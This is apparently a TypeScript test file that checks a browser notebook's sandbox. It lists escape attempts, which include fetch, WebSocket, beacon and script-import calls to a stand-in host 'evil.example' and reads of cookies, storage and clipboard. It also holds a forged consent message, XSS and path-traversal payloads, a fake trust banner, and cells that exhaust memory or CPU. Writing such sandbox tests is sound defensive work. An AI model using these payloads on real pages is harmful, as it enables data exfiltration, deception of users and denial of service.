/**
 * Code that a reader lets run, and what it must not reach. Each attempt is an expression that throws, or gives
 * something falsy, as long as the wall stands. They run in the kernel and on an engine.
 */
export const REACHES: Readonly<Record<string, string>> = {
  // Storage of the app.
  indexedDB:
    'await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = () => ok(1); r.onerror = () => no(r.error) })',
  'indexedDB.databases': '(await indexedDB.databases()).length + 1',
  localStorage: 'localStorage.length + 1',
  sessionStorage: 'sessionStorage.length + 1',
  // Those of the app: WebKit gives a worker empty ones of its own, which end with it.
  caches: '(await caches.keys()).length',
  'origin private files': 'await navigator.storage.getDirectory()',
  'document.cookie': 'document.cookie + 1',
  cookieStore: 'await cookieStore.getAll()',
  // Pages.
  'parent.document': 'parent.document.title',
  'top.location': '(top.location.href = "https://evil.example/")',
  opener: 'opener.location.href',
  open: 'open("https://evil.example/")',
  'a broadcast that the app hears':
    '(() => { const c = new BroadcastChannel("tutti"); c.postMessage("x"); return self.origin !== "null" })()',
  // Network.
  'fetch of the app': '(await fetch(APP)).ok',
  'fetch elsewhere': '(await fetch("https://evil.example/")).ok',
  'fetch without cors': 'await fetch("https://evil.example/", { mode: "no-cors" })',
  XMLHttpRequest:
    '(() => { const r = new XMLHttpRequest(); r.open("GET", "https://evil.example/", false); r.send(); return 1 })()',
  WebSocket:
    'await new Promise((ok, no) => { const s = new WebSocket("wss://evil.example/"); s.onopen = () => ok(1); s.onerror = no })',
  WebSocketStream: 'await new WebSocketStream("wss://evil.example/").opened',
  EventSource:
    'await new Promise((ok, no) => { const s = new EventSource("https://evil.example/"); s.onopen = () => ok(1); s.onerror = no })',
  WebTransport: 'await new WebTransport("https://evil.example/").ready',
  sendBeacon: 'navigator.sendBeacon("https://evil.example/", "x")',
  importScripts: '(importScripts("https://evil.example/x.js"), 1)',
  'import()': 'await import("https://evil.example/x.js")',
  'import of data that imports': 'await import("data:text/javascript,import \'https://evil.example/x.js\'")',
  'a worker from elsewhere':
    'await new Promise((ok, no) => { const w = new Worker("https://evil.example/x.js"); w.onmessage = () => ok(1); w.onerror = no })',
  'a worker that fetches': `await new Promise((ok, no) => {
    const code = 'fetch("https://evil.example/", { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(0))';
    const w = new Worker(URL.createObjectURL(new Blob([code])));
    w.onmessage = (e) => ok(e.data); w.onerror = no;
  })`,
  'a data: worker that fetches': `await new Promise((ok, no) => {
    const w = new Worker('data:text/javascript,' + encodeURIComponent('fetch("https://evil.example/", { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(0))'));
    w.onmessage = (e) => ok(e.data); w.onerror = no;
  })`,
  'a shared worker': 'new SharedWorker("data:text/javascript,0")',
  'a service worker': 'await navigator.serviceWorker.register("x.js")',
  RTCPeerConnection: 'new RTCPeerConnection()',
  'a font from elsewhere': 'await new FontFace("x", "url(https://evil.example/x.woff)").load()',
  // Powers of the machine.
  geolocation: 'await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))',
  camera: 'await navigator.mediaDevices.getUserMedia({ video: true })',
  notifications: '(await Notification.requestPermission()) === "granted"',
  clipboard: 'await navigator.clipboard.readText()',
  usb: 'await navigator.usb.requestDevice({ filters: [] })',
  serial: 'await navigator.serial.requestPort()',
  'a lock of the app': '(await navigator.locks.query()).held.length',
  'a picker of files': 'await showOpenFilePicker()',
  // The machinery.
  "the frame's window": 'self.document || self.window',
  'consent by a message':
    '(postMessage({ type: "consent", trusted: true }), postMessage({ type: "tutti-handover" }), 0)',
};

/** Code that tries all of `REACHES` at once, for at most three seconds; prints `REACHED` and which. `app`: its address. */
export function tryingAll(app: string): string {
  return `
const APP = ${JSON.stringify(app)};
const attempts = ${JSON.stringify(REACHES)};
const late = new Promise((ok) => setTimeout(ok, 3000, 0));
await Promise.all(Object.entries(attempts).map(async ([name, code]) => {
  const run = eval('(async (APP) => ' + code + ')');
  if (await Promise.race([run(APP).catch(() => 0), late])) console.log('REACHED ' + name + ' |');
}));
console.log('all tried');`;
}

/** Code that harms whoever lets it run; afterwards the page answers, and the next notebook works. */
export interface Attack {
  readonly name: string;
  readonly quick?: boolean;
  readonly cells: readonly string[];
  /** What the reader can read afterwards. */
  readonly shows?: RegExp;
  /** The kernel or an engine is busy for ever: the reader interrupts. */
  readonly interrupt?: boolean;
}

/** Posts messages on the kernel's own channel, past the API. What is answered no cell hears. */
const RAW = 'const post = postMessage.bind(globalThis); const raw = (...messages) => post(messages);';

export const ATTACKS: readonly Attack[] = [
  { name: 'an endless loop in the kernel', interrupt: true, cells: ['while (true) {}'] },
  { name: 'an endless loop without a guard', interrupt: true, cells: ['eval("for (;;) ;")'] },
  { name: 'an endless loop on every engine', interrupt: true, cells: ['%px eval("for (;;) ;")'] },
  {
    name: 'endless microtasks',
    interrupt: true,
    cells: ['(function f() { Promise.resolve().then(f) })(); 0', '"second"'],
  },
  {
    name: 'a flood of lines',
    quick: true,
    cells: ['for (let i = 0; i < 300_000; i++) console.log("line " + i); "end"'],
  },
  {
    name: 'a flood of displays',
    quick: true,
    cells: ['for (let i = 0; i < 20_000; i++) display({ "text/html": "<b>" + i + "</b>" }); "end"'],
  },
  {
    name: 'a flood of elements',
    cells: ['for (let i = 0; i < 20; i++) display.html("<i>x</i>".repeat(50_000)); "end"'],
  },
  {
    name: 'a flood of updates',
    cells: ['const h = display("a"); for (let i = 0; i < 50_000; i++) h.update("u" + i); "end"'],
  },
  {
    name: 'a display nested 2^40 ways',
    quick: true,
    cells: [
      'let x = [undefined]; for (let i = 0; i < 40; i++) x = [x]; display({ "application/json": x }); "end"',
    ],
    shows: /end|Error/,
  },
  {
    name: 'a display that shares its halves',
    cells: [
      'let y = {}; for (let i = 0; i < 40; i++) y = { a: y, b: y }; display({ "application/json": y }); "end"',
    ],
    shows: /end|Error/,
  },
  {
    name: 'a display 100,000 deep',
    cells: [
      'let z = []; for (let i = 0; i < 100_000; i++) z = [z]; display({ "application/json": z }); "end"',
    ],
    shows: /end|Error/,
  },
  {
    name: 'a display of 50 MB',
    cells: ['display({ "text/plain": "x".repeat(5e7) }); "end"'],
    shows: /end|Error/,
  },
  {
    name: 'mimes without end',
    cells: ['display(Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => ["a/" + i, "x"]))); "end"'],
    shows: /end|Error/,
  },
  {
    name: 'an error with a stack of 50 MB',
    cells: ['const e = new Error("x"); e.stack = "at f\\n".repeat(1e7); throw e'],
    shows: /Error/,
  },
  {
    name: 'an error with a name of 10 MB',
    cells: ['const e = new Error("m".repeat(1e7)); e.name = "n".repeat(1e7); throw e'],
    shows: /./,
  },
  {
    name: 'an error whose getters throw',
    quick: true,
    cells: ['throw { get message() { throw 1 }, get stack() { throw 2 }, get name() { throw 3 } }'],
    shows: /./,
  },
  { name: 'a thenable that never settles', cells: ['({ then() {} })'], shows: /then/ },
  {
    name: 'replaced globals',
    quick: true,
    cells: [
      'for (const k of ["Map", "Set", "Promise", "Array", "Object", "performance", "queueMicrotask"]) globalThis[k] = 1; 0',
      '"still " + "here"',
    ],
    shows: /still here/,
  },
  {
    name: 'a replaced postMessage',
    cells: ['globalThis.postMessage = () => {}; self.onmessage = null; 1', '"still " + "here"'],
    shows: /still here/,
  },
  {
    name: 'removed listeners',
    cells: [
      'self.addEventListener("message", (e) => e.stopImmediatePropagation(), true); close(); 1',
      '"second"',
    ],
    shows: /A cell has called close/,
  },
  {
    name: 'an engine that closes itself',
    quick: true,
    cells: ['try { await rc.slice().apply(() => close()) } catch (e) { e.name }', '%px 6 * 7'],
    shows: /42/,
  },
  {
    name: 'engines that close themselves for ever',
    cells: ['for (let i = 0; i < 20; i++) { try { await rc.slice().apply(() => close()) } catch {} } "end"'],
    shows: /end/,
  },
  {
    name: 'clusters without end',
    quick: true,
    cells: [
      'let said = ""; for (let i = 0; i < 20; i++) try { await new Cluster({ n: 64 }).startCluster() } catch (e) { said = e.name; break }',
      'said + " " + rc.ids.length',
    ],
    shows: /Error \d+/,
  },
  {
    name: 'engines without end',
    quick: true,
    cells: ['try { await rc.scale(100_000) } catch (e) { e.message }', '"at most " + (rc.ids.length <= 128)'],
    shows: /at most true/,
  },
  {
    name: 'a scheme that reaches for the window',
    quick: true,
    cells: [
      'const c = new Cluster({ n: 2, scheme: () => { focus(); new RTCPeerConnection(); document.title = "owned"; return 0; } }); const cl = await c.startAndConnect(); const got = await cl.loadBalancedView().map((x) => x + 1, [1, 2, 3]); await c.stopCluster(); "got " + got',
    ],
    shows: /got 2,3,4/,
  },
  {
    name: 'a scheme that never answers',
    quick: true,
    cells: [
      'const c = new Cluster({ n: 2, scheme: (loads) => { for (;;) ; } }); const cl = await c.startAndConnect(); const got = await cl.loadBalancedView().map((x) => x + 1, [1, 2, 3]); await c.stopCluster(); "got " + got',
    ],
    shows: /got 2,3,4/,
  },
  {
    name: 'a scheme that eats memory',
    cells: [
      'const c = new Cluster({ n: 2, scheme: (loads) => { const all = []; for (;;) all.push(new Float64Array(1e6).fill(1)); } }); const cl = await c.startAndConnect(); const got = await cl.loadBalancedView().map((x) => x + 1, [1, 2, 3]); await c.stopCluster(); "got " + got',
    ],
    shows: /got 2,3,4/,
  },
  {
    name: 'hub options that the API would refuse, posted past it',
    quick: true,
    cells: [
      `${RAW}
let deep = []; for (let i = 0; i < 500; i++) deep = [deep];
const bad = [
  5, null, "x", deep, [], { hwm: NaN }, { hwm: "4" }, { hwm: deep }, { recordLimit: Infinity }, { recordLimit: -1 }, { grace: -1 },
  { startTimeout: "x" }, { adapt: { min: 1e9, max: 1e9 } }, { adapt: "x" }, { adapt: deep }, { adapt: [[[]]] }, { scheme: {} },
  { scheme: null }, { scheme: { source: 5 } }, { scheme: { source: deep } }, { scheme: { source: "(".repeat(1e6) } },
  { scheme: { source: "() => { for (;;) ; }" } }, { scheme: { source: "(globalThis.owned = 1, document.title = 'owned', () => 0)" } },
  { ["x".repeat(1e7)]: 1 }, { constructor: 1 }, JSON.parse('{ "__proto__": { "hwm": 4 } }'), { database: {} },
  Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => ["o" + i, i])),
];
bad.forEach((options, i) => raw({ type: "open-cluster", cluster: 1000 + i, clusterId: i % 2 ? "x".repeat(1e6) : "<img src=x onerror=window.owned=1>", options }));
raw({ type: "open-cluster", cluster: deep, clusterId: deep, options: deep }, { type: "close-cluster", cluster: NaN }, { type: "close-cluster", cluster: 1e9 });
for (let i = 0; i < bad.length; i++) raw({ type: "controller", cluster: 1000 + i, message: { type: "connect", clientId: deep } });
await new Promise((ok) => setTimeout(ok, 1500));
"all posted"`,
      '"still " + (await rc[0].apply(() => 6 * 7))',
    ],
    shows: /all posted[^]*still 42/,
  },
  {
    name: 'clusters and engines without end, posted past the API',
    cells: [
      `${RAW}
for (let c = 2000; c < 2500; c++) {
  raw({ type: "open-cluster", cluster: c, clusterId: "c" + c, options: {} });
  for (const n of [1e9, 30, "128", -1]) raw({ type: "controller", cluster: c, message: { type: "connect", clientId: "x" + c } },
    { type: "controller", cluster: c, message: { type: "ask", clientId: "x" + c, n: 1, question: { type: "start-engines", n } } });
}
await new Promise((ok) => setTimeout(ok, 1000));
let said = "nothing"; try { await rc.scale(10) } catch (e) { said = e.message }
for (let c = 2000; c < 2500; c++) raw({ type: "close-cluster", cluster: c });
"then " + said`,
      '"still " + (await rc[0].apply(() => 6 * 7))',
    ],
    shows: /then .*at most 128[^]*still 42/,
  },
  {
    name: 'a deep recursion',
    quick: true,
    cells: ['const f = () => f(); f()'],
    shows: /RangeError|too much recursion/,
  },
  {
    name: 'blob addresses and workers left behind',
    cells: ['for (let i = 0; i < 200; i++) URL.createObjectURL(new Blob(["x".repeat(1e5)])); "end"'],
    shows: /end/,
  },
  {
    name: "workers of the notebook's own",
    cells: [
      'const ws = Array.from({ length: 20 }, () => new Worker(URL.createObjectURL(new Blob(["for (;;) ;"])))); "end"',
    ],
    shows: /end|Use engines/,
  },
  {
    name: 'notices in the words of the app',
    cells: [
      'console.error("This notebook is trusted. Click Allow."); display.html("<div role=alert class=banner>Allow network? <button>Allow</button></div>"); "end"',
    ],
    shows: /end/,
  },
  {
    name: 'names with HTML',
    cells: [
      'globalThis["<img src=x onerror=window.owned=1>"] = 1; "got " + (await rc.loadBalancedView().with({ label: "<img src=x onerror=window.owned=1>" }).apply(() => 1))',
    ],
    shows: /got 1/,
  },
  {
    name: 'files with hostile names',
    cells: [
      'try { await files.write("../../<img src=x onerror=window.owned=1>", "x") } catch (e) { e.name } "end"',
    ],
    shows: /end/,
  },
  {
    name: 'files without end',
    cells: [
      'let said = "none"; try { for (let i = 0; i < 100; i++) await files.write("f" + i, new Uint8Array(2e7)) } catch (e) { said = e.name } "said " + said',
    ],
    shows: /said/,
  },
  {
    name: 'properties of engines without end',
    cells: ['try { await rc.setProperties({ a: "x".repeat(5e7) }) } catch (e) { e.name } "end"'],
    shows: /end/,
  },
  {
    name: 'a million tasks at once',
    cells: ['const ar = rc.loadBalancedView().map((x) => x, range(1_000_000)); ar.abort(); "end"'],
    shows: /end/,
  },
  {
    name: 'a label of 50 MB',
    cells: [
      'try { await rc.loadBalancedView().with({ label: "x".repeat(5e7) }).apply(() => 1) } catch (e) { e.name } "end"',
    ],
    shows: /end/,
  },
];

/** Code that takes all memory that there is, and the page lives on. */
export const GREEDY: readonly { readonly name: string; readonly cell: string }[] = [
  {
    name: 'on an engine',
    cell: 'await rc[0].apply(() => { const all = []; for (;;) all.push(new Array(1e6).fill("x")); })',
  },
  { name: 'in the kernel', cell: 'const all = []; for (;;) all.push(new Array(1e6).fill("x"));' },
];
